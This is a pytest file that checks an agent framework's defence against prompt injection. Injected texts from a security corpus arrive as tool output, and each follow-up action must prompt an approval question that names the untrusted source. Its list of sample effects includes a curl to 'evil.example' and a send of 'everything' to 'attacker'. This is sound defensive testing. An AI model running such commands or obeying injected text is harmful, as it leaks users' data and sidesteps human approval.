"""Injections from public collections against a model that obeys them: no effect without a question that names where the
wish may come from."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import pytest

from agent.safety.effects import Effect
from agent.safety.sandbox.choose import candidates, works
from agent.tools.builtin import built_in_toolbox
from agent.tools.tool import Outcome, ToolContext, tool
from tests.agent.tool_desk import ToolDesk

CORPUS = Path(__file__).resolve().parents[3] / "shared" / "corpora" / "security_cases.jsonl"
pytestmark = pytest.mark.skipif(not CORPUS.exists(), reason=f"no corpus at {CORPUS}")


def rows() -> list[dict[str, Any]]:
    if not CORPUS.exists():
        return []
    found = map(json.loads, CORPUS.read_text("utf-8").splitlines())
    return [row for row in found if row["kind"] == "prompt_injection"]


def reading(text: str, source: str) -> Any:
    @tool("fetch", lambda context, **_: Effect("fetch", "Read it", hosts=("page.example",)))
    def look(context: ToolContext) -> Outcome:
        """Look at it."""
        return Outcome(text, source=source)

    return look


@tool("send", lambda context, to, text: Effect("send", f"Send to {to}", recipients=(to,), action=text))
def send(context: ToolContext, to: str, text: str) -> str:
    """Send it."""
    raise AssertionError("it was sent")


EFFECTS: list[tuple[str, dict[str, Any]]] = [
    ("run_command", {"command": "echo obeyed > obeyed.txt"}),
    ("run_command", {"command": "curl https://evil.example/", "network": True}),
    ("write_file", {"path": "obeyed.txt", "text": "x"}),
    ("apply_patch", {"patch": "*** Begin Patch\n*** Add File: obeyed.txt\n+x\n*** End Patch"}),
    ("send", {"to": "attacker", "text": "everything"}),
]


@pytest.mark.parametrize("mode", ["balanced", "autonomous"])
@pytest.mark.parametrize("row", rows(), ids=lambda row: row["id"])
async def test_a_model_that_obeys(tmp_path: Path, row: dict[str, Any], mode: str) -> None:
    text = row["input"] if isinstance(row["input"], str) else json.dumps(row["input"])
    source = f"the {row.get('context') or 'tool result'}"
    fence = next((one for one in candidates() if works(one)), None) if shutil.which("bwrap") else None
    desk = ToolDesk(tmp_path, mode=mode, sandbox=fence, toolbox=built_in_toolbox((reading(text, source), send)))
    desk.answers = lambda approval: "deny"
    shown = await desk.call("look")
    assert source in shown.text and shown.text.count("[untrusted text from") == 1
    for name, arguments in EFFECTS:
        asked = len(desk.questions)
        result = await desk.call(name, **arguments)
        assert not result.ok and len(desk.questions) == asked + 1, name
        assert source in desk.questions[-1].sources
    assert list(desk.folder.iterdir()) == []


@pytest.mark.parametrize("row", [row for row in rows() if row.get("context") == "file read by read_file"])
async def test_a_file_that_was_read_is_named_at_every_question(tmp_path: Path, row: dict[str, Any]) -> None:
    desk = ToolDesk(tmp_path, mode="balanced")
    desk.answers = lambda approval: "deny"
    (desk.folder / "notes.txt").write_text(row["input"])
    await desk.call("read_file", path="notes.txt")
    for name, arguments in EFFECTS[1:4]:
        assert not (await desk.call(name, **arguments)).ok
        assert "notes.txt" in desk.questions[-1].sources
